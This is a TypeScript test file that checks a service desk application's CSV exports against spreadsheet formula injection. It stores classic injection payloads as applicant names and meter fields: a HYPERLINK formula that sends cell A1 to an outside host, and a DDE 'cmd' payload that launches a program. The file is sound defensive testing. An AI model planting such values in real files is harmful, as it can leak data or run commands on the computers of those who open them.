import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { after, before, describe, test } from 'node:test';
import { auditCsv, everyEntry, queryAudit } from '../../identity/index.ts';
import { readCsv } from '../../platform/index.ts';
import { cellsOf, formulasIn } from '../../test-support/csv-file.ts';
import { type DeskHttp, openDesk } from '../../test-support/desk-http.ts';
import { entryBody, takenTo } from '../../test-support/desk-stages.ts';
import { createDeskWorld, type DeskWorld } from '../../test-support/desk-world.ts';
import { callerWith } from '../workflow/test-support/applications.ts';

/** What people may be called, and spreadsheets would do. */
const formulas = [
  '=HYPERLINK("http://x.id/"&A1;"klik")',
  '+62812;=1+1',
  '-2+3',
  '@SUM(A1:A9)',
  "'=1+1",
  '＝1+1',
  "x;=cmd|' /C calc'!A0",
  'A,"B"',
] as const;

describe('files that leave the house', () => {
  let world: DeskWorld;
  let desk: DeskHttp;
  let sari: string;
  let tono: string;
  before(async () => {
    world = await createDeskWorld();
    desk = await openDesk(world);
    sari = await desk.session('front-office', { name: 'sari' });
    tono = await desk.session('metering', { name: 'tono', units: ['*'] });
    for (const name of formulas) {
      const body = entryBody();
      const applicant = { name, address: name, purpose: name, pole: name.slice(0, 20).trim() };
      const entered = await desk.call(sari, 'POST', 'applications', {
        body: { ...body, applicant },
      });
      assert.equal(entered.status, 201, entered.text);
    }
  });
  after(async () => {
    await desk?.close();
    await world?.close();
  });

  /** The values of one column as they were before they were guarded; nothing in the file may be a formula. */
  const column = async (
    file: string,
    name: string,
    delimiter = ',',
  ): Promise<readonly string[]> => {
    const rows = cellsOf(file, delimiter);
    assert.deepEqual(formulasIn(rows), []);
    // Opened by a spreadsheet that is set to the other delimiter, nor there.
    assert.deepEqual(
      formulasIn(cellsOf(file.replaceAll('"', ''), delimiter === ',' ? ';' : ',')),
      [],
    );
    const [names = []] = rows;
    const shape = { required: [name], optional: names.filter((one) => one !== name) };
    const lower = {
      required: shape.required.map((one) => one.toLowerCase()),
      optional: shape.optional.map((one) => one.toLowerCase()),
    };
    const values: string[] = [];
    const limits = { mostRecords: 10_000, mostBytes: 10_000_000 };
    for await (const record of readCsv(Readable.from([Buffer.from(file)]), { ...lower, ...limits }))
      values.push(record.values[name.toLowerCase()] ?? '');
    return values;
  };
  const download = async (
    token: string,
    path: string,
    headers: Readonly<Record<string, string>> = {},
  ) => {
    const answer = await desk.call(token, 'GET', path, { headers });
    assert.equal(answer.status, 200, answer.text);
    return answer.text;
  };
  const sorted = (values: readonly string[]) => [...values].toSorted();

  test('applications', async () => {
    const file = await download(sari, 'applications/export');
    assert.deepEqual(sorted(await column(file, 'name')), sorted(formulas));
    assert.deepEqual(sorted(await column(file, 'address')), sorted(formulas));
  });

  test('a search', async () => {
    for (const name of formulas.filter((one) => /[a-z]{2}/i.test(one))) {
      const path = `search/export?q=${encodeURIComponent(name)}`;
      assert.ok((await column(await download(sari, path), 'name')).includes(name), name);
    }
  });

  test('meters, in both forms', async () => {
    const put = await desk.call(tono, 'PUT', 'meter-models/EVIL-1', {
      body: {
        maker: '45',
        brand: '=1+1',
        type: '@SUM(A1)',
        kind: 'postpaid',
        phases: 1,
        maxAmperes: 60,
        sts: null,
      },
    });
    assert.equal(put.status, 200, put.text);
    const meters = [{ meterNo: '45000000013', modelId: 'EVIL-1', factoryNo: '-1+2;=3', sts: null }];
    const received = await desk.call(tono, 'POST', 'meter-stock/receipts', { body: { meters } });
    assert.equal(received.status, 200, received.text);
    for (const delimiter of [',', ';']) {
      const file = await download(
        tono,
        `meter-stock/export?delimiter=${encodeURIComponent(delimiter)}`,
      );
      assert.deepEqual(await column(file, 'brand', delimiter), ['=1+1']);
      assert.deepEqual(await column(file, 'factory_no', delimiter), ['-1+2;=3']);
      assert.deepEqual(await column(file, 'type', delimiter), ['@SUM(A1)']);
    }
  });

  test('lines of a collective request, and the same file sent again', async () => {
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const lines = formulas.map((name, n) =>
      [name, `JL. ${n}`, 'R1', '2200', 'prepaid', '50000'].map(quoted).join(),
    );
    const bytes = ['name,address,tariff,power_va,product,first_credit_rupiah', ...lines].join('\n');
    const headers = { 'content-type': 'text/csv' };
    const sent = await desk.call(sari, 'POST', 'collectives?unit=53425', { body: bytes, headers });
    assert.equal(sent.status, 201, sent.text);
    const { collectiveNo } = sent.body['collective'] as { collectiveNo: string };
    const file = await download(sari, `collectives/${collectiveNo}/lines/export`);
    // An apostrophe in front of a formula is the spreadsheet's own, and is taken off when a file comes in.
    const kept = formulas.map((name) => (name === "'=1+1" ? '=1+1' : name));
    assert.deepEqual(await column(file, 'name'), kept);
  });

  test('token requests, and the audit trail, whoever acted', async () => {
    const label = '=1+1;@x';
    const { agendaNo, meterNo } = await takenTo(world, 'paid');
    const caller = callerWith('metering', { label });
    await world.act(agendaNo, 'activate', { meterNo }, { caller });
    const file = await download(tono, `token-requests?agendaNo=${agendaNo}`, {
      accept: 'text/csv',
    });
    assert.deepEqual(new Set(await column(file, 'officer')), new Set([label]));
    const entries = await queryAudit(world.database, { ...everyEntry, actor: label, limit: 50 });
    assert.ok(entries.length > 0);
    const audit = await text(auditCsv(entries));
    assert.deepEqual(new Set(await column(audit, 'actor')), new Set([label]));
  });
});
